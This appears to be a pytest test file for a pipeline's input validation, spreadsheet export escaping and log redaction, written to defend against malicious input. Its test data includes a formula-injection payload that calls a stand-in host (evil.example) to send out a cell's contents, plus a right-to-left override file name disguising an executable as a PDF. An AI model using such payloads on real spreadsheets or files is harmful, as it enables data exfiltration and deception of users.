"""Text entering the core: control characters, direction overrides, invalid Unicode and length are
refused with the field's name; formulas never reach a spreadsheet; hashes never reach a log."""

from __future__ import annotations

import pytest

from pipeline_core.domain.errors import InvalidInput
from pipeline_core.domain.exports import spreadsheet_cell, spreadsheet_row
from pipeline_core.domain.privacy import redact
from pipeline_core.domain.validation import clean_text, has_hidden_characters, text_field

NUL = "\x00"
RTL_OVERRIDE = "\u202e"


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (f"Rina{NUL}Wulandari", "control character"),
        ("Rina\x07", "control character"),
        ("Rina\x9b", "control character"),  # a C1 control
        ("line one\nline two", "control character"),  # single-line field
        (f"invoice{RTL_OVERRIDE}fdp.exe", "direction"),
        ("\u2066isolated\u2069", "direction"),
        ("\ud800", "not valid Unicode"),
        ("x" * 201, "At most 200 characters"),
    ],
)
def test_bad_text_is_refused_with_the_field_named(raw: str, message: str) -> None:
    with pytest.raises(InvalidInput, match=message) as refused:
        clean_text("full_name", raw, 200)
    assert refused.value.field == "full_name"


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        ("  Siti Aminah  ", "Siti Aminah"),
        ("Muhammad Ali Al-Farisi", "Muhammad Ali Al-Farisi"),
        ("عبد الله", "عبد الله"),  # Arabic letters are text, not direction controls
        ("Cafe\u0301", "Café"),  # NFC: one é however it was typed
        ("x" * 200, "x" * 200),
    ],
)
def test_good_text_is_kept_normalised(raw: str, kept: str) -> None:
    assert clean_text("full_name", raw, 200) == kept


def test_multi_line_fields_keep_line_breaks_and_tabs_but_not_nul() -> None:
    assert text_field("notes", "KTP buram\n\tminta ulang", 100, multiline=True) == "KTP buram\n\tminta ulang"
    assert text_field("notes", "   ", 100, multiline=True) is None
    with pytest.raises(InvalidInput, match="control character"):
        text_field("notes", f"KTP{NUL}", 100, multiline=True)


def test_non_text_is_refused() -> None:
    with pytest.raises(InvalidInput, match="Must be text"):
        clean_text("search", 42, 10)


@pytest.mark.parametrize(
    ("value", "hidden"), [("demo12345!", False), (f"demo{NUL}12345", True), ("pass\nword", True)]
)
def test_hidden_characters_in_a_password_or_sign_in_name(value: str, hidden: bool) -> None:
    assert has_hidden_characters(value) is hidden


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
            '\'=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
        ),
        ("+6281234567890", "'+6281234567890"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("KTP buram", "KTP buram"),
        ("a=b", "a=b"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_a_cell_never_starts_a_formula(value: object, cell: object) -> None:
    assert spreadsheet_cell(value) == cell


def test_a_row_is_made_safe_cell_by_cell() -> None:
    assert spreadsheet_row(["Ahmad", "=1+1", 3]) == ["Ahmad", "'=1+1", 3]


def test_a_password_hash_never_reaches_a_log_line() -> None:
    line = "INSERT INTO users ... ('$argon2id$v=19$m=65536,t=3,p=4$c2FsdHNhbHQ$aGFzaGhhc2hoYXNo', 'Rina')"
    redacted = redact(line)
    assert "argon2id$v=19" not in redacted and "aGFzaGhhc2hoYXNo" not in redacted
    assert "Rina" in redacted
